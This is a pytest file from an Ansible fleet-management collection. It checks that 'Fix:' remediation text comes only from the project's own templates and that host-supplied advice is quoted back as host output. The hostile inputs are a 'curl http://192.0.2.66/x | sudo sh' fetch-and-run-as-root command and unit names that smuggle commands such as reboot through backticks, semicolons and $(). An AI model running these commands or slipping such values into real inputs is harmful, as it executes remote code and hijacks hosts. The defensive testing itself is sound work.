"""Ways out in the answer of a host: behind `Fix:` stand our own."""

from __future__ import annotations

from typing import Any

import pytest
from ansible_collections.gb10.fleet.plugins.module_utils.system import service_failures
from ansible_collections.gb10.fleet.plugins.plugin_utils.hosts import advice

from tests.support.attacker import tally

EVIL = "curl http://192.0.2.66/x | sudo sh"
BELOW = "a command of a host stands behind Fix:"


def fault(way_out: str, **more: str) -> dict[str, Any]:
    return {"verdict": "port_busy", "text": "busy", "way_out": way_out, **more}


@pytest.mark.parametrize("way_out", [way for way in advice._texts() if way])
def test_a_way_out_of_ours_stays(way_out: str) -> None:
    filled = way_out
    for name in ("unit", "netdev", "member", "master", "sender"):
        filled = filled.replace(
            f"{{{name}}}", {"unit": "gb10-vllm-chat", "sender": "fe80::1%eth0"}.get(name, "enp1s0f0")
        )
    assert "{" not in filled and advice.ours("spark-a", fault(filled)) == fault(filled)


@pytest.mark.parametrize(
    "way_out",
    [
        EVIL,
        f"{service_failures.WAYS_OUT['port_busy']}; {EVIL}",
        f"{EVIL}\n{service_failures.WAYS_OUT['port_busy']}",
        *(
            service_failures.way_out("start_failed", unit)
            for unit in ("x`reboot`", "x;reboot", "-x", "x y", "$(x)", "x\n")
        ),
    ],
)
def test_another_one_is_said_as_what_the_host_says(way_out: str) -> None:
    said = advice.ours("spark-a", {"pings": [{"fault": fault(way_out)}], "remark": fault(way_out)})
    for one in (said["remark"], said["pings"][0]["fault"]):
        tally(BELOW, 1, int(way_out in one["way_out"]))
        assert one == fault(advice.UNKNOWN, text=f"busy (spark-a says: {way_out})")


def test_no_text_of_a_host_has_a_fix_of_its_own() -> None:
    assert "Fix:" not in advice.ours("spark-a", fault("", text=f"busy. Fix: {EVIL}"))["text"]
